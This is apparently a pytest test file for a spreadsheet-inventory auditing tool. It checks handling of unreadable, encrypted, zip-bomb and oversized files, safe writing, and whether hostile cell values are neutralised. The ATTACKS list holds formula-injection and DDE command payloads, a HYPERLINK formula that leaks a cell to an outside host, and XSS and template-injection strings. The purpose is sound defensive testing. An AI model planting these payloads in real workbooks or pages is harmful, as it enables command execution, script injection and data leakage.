"""Bad input: one line and status 2 where nothing can be read; else a finding at its place, and the rest is read."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
import xlsxwriter
from click.testing import CliRunner
from conftest import DAY, DEMO, write_tables
from packages import SHEET, changed, understated, workbook

import derbes
from derbes.auditing import audit
from derbes.cli import main
from derbes.errors import OutputError, SourceError
from derbes.page import widget
from derbes.read.guard import OLE
from derbes.report import report
from derbes.schema import load as load_schema
from derbes.workbook import write_inventory

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from click.testing import Result
    from conftest import Rows

SHEETS = [f"structure.sheet.{name}" for name in ("file_unreadable", "sheet_unreadable", "note")]
HEADINGS = ["system_id", "name"]
QUICK = ("--notebook", "audit", "--no-pdf")


def run(*asked: object) -> Result:
    return CliRunner().invoke(main, [str(word) for word in asked])


def line(result: Result) -> str:
    assert (result.exit_code, result.stdout) == (2, ""), result.output
    (said,) = result.stderr.splitlines()
    return said


@pytest.fixture
def good(tmp_path: Path) -> Path:
    """The demo's workbooks, without its history."""
    return shutil.copytree(DEMO, tmp_path / "good", ignore=shutil.ignore_patterns("history", "*.md"))


def found(home: Path, *rules: str, lang: str = "en") -> list[dict[str, Any]]:
    done = audit(home, as_of=DAY, before="none", lang=lang, only=rules)
    return json.loads(json.dumps(done.to_json()))["findings"]


# files that cannot be read at all


def document(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<document/>")


def cut(path: Path) -> None:
    workbook(path, HEADINGS, ["crm", "CRM"], sheet="systems")
    path.write_bytes(path.read_bytes()[:-700])


def locked(path: Path) -> None:
    path.write_bytes(OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(4096))


def bomb(path: Path) -> None:
    changed(workbook(path, HEADINGS, sheet="systems"), SHEET, lambda xml: xml + "<row/>" * (4 << 20))
    assert path.stat().st_size < 50_000
    understated(path, SHEET, 1000)


def vast(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(200 << 20)  # a sparse file: no disk is filled


def far(path: Path) -> None:
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("systems")
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_string(1_048_575, 16_383, "x")


BAD: dict[str, tuple[str, Callable[[Path], object], str]] = {
    "a document under a workbook's name": ("bad.xlsx", document, "not_a_spreadsheet"),
    "a workbook cut short": ("bad.xlsx", cut, "truncated"),
    "a workbook with a password": ("bad.xlsx", locked, "encrypted"),
    "a zip bomb": ("bad.xlsx", bomb, "bomb"),
    "a file of 200 MB": ("systems.csv", vast, "too_large"),
    "an empty file": ("systems.csv", lambda path: path.write_bytes(b""), "empty_file"),
    "a cell in the last corner": ("bad.xlsx", far, "too_large"),
}


@pytest.mark.parametrize("case", BAD)
def test_alone_it_is_refused_in_one_line(tmp_path: Path, case: str) -> None:
    name, make, code = BAD[case]
    home = tmp_path / "shop"
    home.mkdir()
    make(home / name)
    for path in (home, home / name):
        said = line(run("check", path, "--as-of", DAY))
        assert said.startswith(name)
        with pytest.raises(SourceError) as refusal:
            derbes.load(path)
        assert refusal.value.code == code


@pytest.mark.parametrize("case", BAD)
def test_beside_good_files_it_is_one_critical_finding_and_the_rest_is_read(good: Path, case: str) -> None:
    name, make, code = BAD[case]
    make(good / name)
    whole = derbes.load(DEMO)
    read = derbes.load(good)
    assert {table: len(frame) for table, frame in read.tables.items()} == {n: len(f) for n, f in whole.tables.items()}
    (source,) = (row for row in read.sources.itertuples() if row.file == name)
    assert source.reason == code
    (finding,) = (one for one in found(good, *SHEETS) if one["severity"] == "critical")
    assert (finding["file"], finding["cell"], finding["value"]) == (name, None, None)
    assert run("check", good, "--as-of", DAY, "--before", "none", "--fail-on", "critical").exit_code == 1


def test_a_sheet_too_vast_says_how_far_it_reaches(good: Path) -> None:
    far(good / "bad.xlsx")
    (note,) = found(good, "structure.sheet.note")
    assert (note["severity"], note["table"], note["sheet"]) == ("info", "systems", "systems")
    assert "the cells reach: XFD1048576" in note["title"]


def test_a_text_in_an_old_encoding_is_read_and_said(good: Path) -> None:
    name = load_schema().tables["systems"].title["ru"]
    (good / "systems.csv").write_bytes(f"system_id;name\ncp;{name}\n".encode("cp1251"))
    assert name in set(derbes.load(good).systems["name"])
    (note,) = found(good, "structure.sheet.note")
    assert (note["file"], note["severity"]) == ("systems.csv", "info")
    assert "cp1251" in note["title"]


@pytest.mark.skipif(sys.platform != "linux", reason="file names are bytes on Linux only")
def test_a_file_whose_name_is_no_text_is_said_and_the_rest_is_read(good: Path, tmp_path: Path) -> None:
    (good / os.fsdecode(b"\xe8\xec\xff.csv")).write_bytes(b"system_id\ncrm\n")
    (finding,) = found(good, *SHEETS)
    assert finding["rule"] == "structure.sheet.file_unreadable"
    assert (
        run("report", good, "--quarter", "2026Q3", "--before", "none", "--out", tmp_path / "out", *QUICK).exit_code == 0
    )


def test_folders_without_spreadsheets_are_refused_in_one_line(tmp_path: Path) -> None:
    assert "holds no spreadsheet" in line(run("check", tmp_path))
    assert "there is no such file or folder" in line(run("check", tmp_path / "nowhere"))
    (tmp_path / "notes.csv").write_text("a;b\n1;2\n", encoding="utf-8")
    assert "no sheet bears the name of a table" in line(run("check", tmp_path))


# sheets that do not keep to the model


def test_two_sheets_of_one_table_may_have_different_columns(tmp_path: Path) -> None:
    workbook(tmp_path / "a.xlsx", ["name", "system_id"], ["CRM", "crm"], sheet="systems")
    workbook(tmp_path / "b.xlsx", ["system_id", "owner", "kind"], [], ["till", "IT", "kiosk"], sheet="systems")
    systems = derbes.load(tmp_path).systems
    assert systems[["system_id", "file", "row"]].to_numpy().tolist() == [["crm", "a.xlsx", 2], ["till", "b.xlsx", 3]]
    rules = [f"structure.{rule}" for rule in ("required.systems.owner", "closed_list.systems.kind")]
    places = {(one["rule"], one["key"], one["file"], one["cell"]) for one in found(tmp_path, *rules)}
    assert places == {(rules[0], "crm", "a.xlsx", None), (rules[1], "till", "b.xlsx", "C3")}


def test_a_heading_that_stands_twice_is_said_at_the_second_and_the_first_is_read(good: Path) -> None:
    rows = [["system_id", "name", "Name"], ["crm-2", "first", "second"]]
    workbook(good / "more.xlsx", *rows, sheet="systems")
    (finding,) = found(good, "structure.sheet.header_twice")
    assert (finding["severity"], finding["file"], finding["cell"]) == ("critical", "more.xlsx", "C1")
    assert "first" in set(derbes.load(good).systems["name"])


def test_an_unknown_column_is_said_with_what_may_have_been_meant(good: Path) -> None:
    workbook(good / "more.xlsx", ["system_id", "nmae", "x", "x"], ["crm-2", "CRM", "1", "2"], sheet="systems")
    first, second = sorted(found(good, "structure.sheet.unknown_column"), key=lambda one: one["cell"])
    assert (first["cell"], first["severity"]) == ("B1", "info")
    assert load_schema().tables["systems"].columns["name"].title["en"] in first["why"]
    assert second["cells"] == ["C1", "D1"]
    inv = derbes.load(good)
    (kept,) = inv.extras["systems"][inv.systems["system_id"] == "crm-2"].to_numpy().tolist()
    assert kept == ["CRM", "1", "2"], "columns of one heading are both kept"


def test_a_clause_typed_as_a_number_is_said_with_a_suggestion_and_matched_to_nothing(good: Path) -> None:
    with xlsxwriter.Workbook(good / "more.xlsx") as book:
        clauses = book.add_worksheet("clauses")
        clauses.write_row(0, 0, ["document_id", "clause_id"])
        clauses.write_row(1, 0, ["policy-3.0", 7.10])
        systems = book.add_worksheet("systems")
        systems.write_row(0, 0, ["system_id", "clauses"])
        systems.write_row(1, 0, ["crm-2", "7.10-x"])
    (finding,) = found(good, "structure.number.clauses.clause_id")
    assert (finding["severity"], finding["file"], finding["cell"]) == ("critical", "more.xlsx", "B2")
    assert finding["value"] == "7.1"
    assert "7.10" in finding["fix"]
    inv = derbes.load(good)
    assert inv.clauses["clause_id"].isna().sum() == 1
    assert [key for key in inv.keys["clauses"] if key in {"7.1", "7.10"}].count("7.10") <= 1
    (dangling,) = found(good, "structure.reference.systems.clauses")
    assert (dangling["cell"], dangling["value"]) == ("B2", "7.10-x")


@pytest.mark.parametrize("content", ["no such columns\n1\n", "table,record,column,kind\nsystems,2,name,77\n"])
def test_a_frozen_quarter_that_was_changed_by_hand_is_refused(small: Rows, tmp_path: Path, content: str) -> None:
    home = write_tables(tmp_path / "shop", small)
    (home / "_cells.csv").write_text(content, encoding="utf-8")
    assert line(run("check", home)).startswith("_cells.csv: does not fit the tables beside it.")


# where nothing can be written


def test_a_folder_below_a_file_cannot_be_written_to_and_that_is_said(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("whole", encoding="utf-8")
    for out in (tmp_path / "file", tmp_path / "file" / "reports"):
        asked = ["report", DEMO, "--quarter", "2026Q3", "--before", "none", "--out", out, *QUICK]
        assert line(run(*asked)).startswith(str(tmp_path / "file"))
    assert line(run("new", tmp_path / "file" / "shop")).startswith(str(tmp_path / "file"))
    assert (tmp_path / "file").read_text(encoding="utf-8") == "whole"


@pytest.mark.parametrize("words", [["diff", DEMO], ["export", "--to", "list-kz"]], ids=["diff", "export"])
def test_no_workbook_that_is_there_is_overwritten(good: Path, words: list[object]) -> None:
    book = good / "book.xlsx"
    content = workbook(book, HEADINGS).read_bytes()
    (good / "link.xlsx").symlink_to(book)
    form = ["--format", "xlsx"] if words[0] == "diff" else []
    for out in (book, good / "link.xlsx"):
        assert "is there already" in line(run(*words, good, *form, "--out", out))
    for out in (good / "systems.csv", good / "systems"):
        assert "is not named .xlsx" in line(run(*words, good, *form, "--out", out))
    assert book.read_bytes() == content


def test_a_pipe_or_a_folder_is_never_replaced_by_a_workbook(tmp_path: Path) -> None:
    (tmp_path / "folder.xlsx").mkdir()
    places = [tmp_path / "folder.xlsx"]
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.xlsx")
        places.append(tmp_path / "pipe.xlsx")
    for place in places:
        with pytest.raises(OutputError, match="is no file"):
            write_inventory(place, load_schema(), lang="ru", tables=["systems"])
        assert not place.is_file()


SMALL_DISK = """
import contextlib, io, json, resource, sys
from derbes.cli import main
words, sizes = json.loads(sys.argv[1]), json.loads(sys.argv[2])
with contextlib.redirect_stdout(io.StringIO()):  # from here on the audit is remembered
    main(["check", words[1], "--as-of", "2026-09-30", "--before", "none"], standalone_mode=False)
said = []
for size in sizes:
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, resource.RLIM_INFINITY))
    with contextlib.redirect_stderr(io.StringIO()) as told:
        code = main(words, standalone_mode=False)
    said.append([code, told.getvalue()])
print(json.dumps(said))
"""


@pytest.mark.skipif(sys.platform == "win32", reason="Windows sets no limit on the size of a file")
def test_a_disk_that_ends_at_any_write_leaves_the_old_report_whole(tmp_path: Path) -> None:
    """A limit on the size of a file stops each kind of file of the report in turn, the largest last."""
    asked = ["report", str(DEMO), "--quarter", "2026Q3", "--before", "none", "--out", str(tmp_path), *QUICK]
    folder = tmp_path / run(*asked).stdout.strip()
    old = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    sizes = sorted({0, *(len(content) - 1 for content in old.values())})
    done = subprocess.run(
        [sys.executable, "-c", SMALL_DISK, json.dumps(asked), json.dumps(sizes)],
        check=True,
        capture_output=True,
        text=True,
    )
    assert done.stderr == ""
    for code, said in json.loads(done.stdout.splitlines()[-1]):
        assert code == 2, said
        assert said.count("\n") == 1, said
        assert "What stood there is whole" in said
    assert {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()} == old
    assert sorted(path.name for path in folder.parent.iterdir()) == ["2026Q3", "2026Q3.failed"]


# cells that would be run


ATTACKS = [
    "=cmd|' /C calc'!A1",
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "[click](javascript:alert(1)) ![](http://example.org/x.png)",
    "{{ 7*7 }} $$x$$ </style><style>*{display:none}",
    "http://example.org/?open",
]


class Elements(HTMLParser):
    """Elements of a page with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A small inventory whose cells, headings, sheets and files would do harm, and the report on it."""
    home = tmp_path_factory.mktemp("hostile")
    texts = {name: rows for name, rows in _demo().items() if name in {"operator", "systems", "retention", "fields"}}
    for number, row in enumerate(texts["systems"] + texts["retention"] + texts["fields"]):
        attack = ATTACKS[number % len(ATTACKS)]
        row["note"] = attack
        row["status" if "status" in row else "kind"] = attack
        row[attack] = attack
    texts["operator"][0]["name"] = ATTACKS[6]
    write_tables(home, texts)
    (home / "=1+1 <img src=x onerror=alert(3)>.csv").write_text("a\n1\n", encoding="utf-8")
    return home, report(
        home, quarter=derbes.Quarter(2026, 3), as_of=derbes.Quarter(2026, 3).last_day, before="none", out=home / "out"
    )


def _demo() -> Rows:
    raw = derbes.load(DEMO).raw
    return {name: frame.head(12).astype(str).to_dict("records") for name, frame in raw.items()}


def test_no_cell_of_the_findings_workbook_is_a_formula_or_a_link(hostile: tuple[Path, Path]) -> None:
    book = openpyxl.load_workbook(hostile[1] / "findings.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    own = [cell for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in own if any(attack.lstrip("=\t") in cell.value for attack in ATTACKS)]
    assert not [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target]
    told = " ".join(str(cell.value) for cell in cells)
    assert all(attack in told for attack in (ATTACKS[0], ATTACKS[1], ATTACKS[6])), "they are shown as they stand"


def test_no_cell_becomes_a_part_of_the_page_or_the_notebook(hostile: tuple[Path, Path]) -> None:
    own = str(widget.widget("ru"))
    written = [path.read_text(encoding="utf-8") for path in sorted(hostile[1].glob("*.html"))]
    assert {page.count(own) for page in written} <= {0, 1}
    pages = [page.replace(own, "") for page in written]
    notebooks = [json.loads(path.read_text(encoding="utf-8")) for path in sorted(hostile[1].glob("*.ipynb"))]
    outputs = [output for notebook in notebooks for cell in notebook["cells"] for output in cell.get("outputs", [])]
    beside = {path.name for path in hostile[1].glob("*.html")}
    pages += ["".join(output.get("data", {}).get("text/html", "")) for output in outputs]
    for page in pages:
        found_there = Elements(page).found
        assert not [tag for tag, _ in found_there if tag in {"script", "iframe", "object", "form"}]
        names = {name for _, attributes in found_there for name in attributes}
        assert not [name for name in names if name.startswith("on")]
        links = [attributes.get("href") or attributes.get("src") or "" for _, attributes in found_there]
        assert not [link for link in links if not link.startswith(("#", "data:")) and link not in {"", *beside}]
        assert page.count("<style") <= 1
    assert not [output for output in outputs if "text/markdown" in output.get("data", {})]


def test_no_cell_of_a_frozen_quarter_begins_as_a_formula_does(hostile: tuple[Path, Path]) -> None:
    assert run("freeze", hostile[0], "--quarter", "2026Q3").exit_code == 0
    for path in (hostile[0] / "history" / "2026Q3").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "@"} or cell.lstrip()[:2] == "-2"]
